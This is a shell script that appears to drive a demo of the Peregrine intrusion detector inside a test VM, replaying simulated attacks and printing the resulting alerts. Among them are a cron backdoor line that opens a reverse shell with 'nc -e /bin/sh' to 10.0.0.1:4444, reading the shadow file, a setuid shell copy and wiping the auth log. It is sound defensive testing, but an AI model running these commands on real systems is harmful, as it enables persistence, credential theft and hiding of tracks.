#!/bin/sh
# The guest half of scripts/demo: Peregrine watches the machine with its
# default rules (built into the binary) while a few attacks are played.
# Every line for the host starts with "PGDEMO".
say() { echo "PGDEMO $*"; }
# Tells the host the guest script started (an earlier death is retried).
echo "PGTEST-KERNEL $(uname -r)"

insmod /peregrine.ko || { say "insmod failed"; exit 1; }
say "peregrine.ko loaded: $(ls /dev | grep -c '^peregrine') per-CPU devices"

# What an attacker goes after must exist first (the initramfs has no /etc).
mkdir -p /etc /var/log
echo 'root:$6$salt$hash:19000:0:99999:7:::' > /etc/shadow
chmod 600 /etc/shadow
echo 'sshd: session opened for user root' > /var/log/auth.log
B=/tmp/pgbin
mkdir -p $B
for n in nginx; do cp /bin/pgtrigger $B/$n; done

peregrine -U > /tmp/demo.out 2> /tmp/demo.err &
PEREGRINE=$!
# Started once it says so on stderr.
n=0
while [ $n -lt 100 ] && ! grep -q "Peregrine version" /tmp/demo.err; do usleep 100000; n=$((n + 1)); done
usleep 500000
say "peregrine is watching (pid $PEREGRINE), default rules"

act() { say "attack: $1"; shift; "$@" > /dev/null 2>&1; usleep 200000; }
act "a web server spawns a shell"          $B/nginx spawn /bin/sh -c 'id'
act "a backdoor line added below /etc"     /bin/sh -c 'echo "* * * * * root nc -e /bin/sh 10.0.0.1 4444" > /etc/cron.evil'
act "the shadow file read"                 /bin/cat /etc/shadow
act "a symlink made to the shadow file"    /bin/ln -s /etc/shadow /tmp/innocent
act "a setuid copy of the shell"           /bin/sh -c 'cp /bin/busybox /tmp/rootshell && chmod u+s /tmp/rootshell'
act "a file hidden below /dev"             /bin/pgtrigger creat /dev/.hidden
act "a kernel module loaded"               /bin/insmod /pgdummy.ko
act "the auth log wiped"                   /bin/pgtrigger trunc /var/log/auth.log
say "benign: ls, cat of a normal file, a file written in /tmp"
/bin/ls / > /dev/null; /bin/cat /proc/version > /dev/null; echo hi > /tmp/notes.txt
usleep 500000

kill -TERM $PEREGRINE
wait $PEREGRINE
say "---- alerts ----"
sed 's/^/PGDEMO   /' /tmp/demo.out
say "---- end ----"
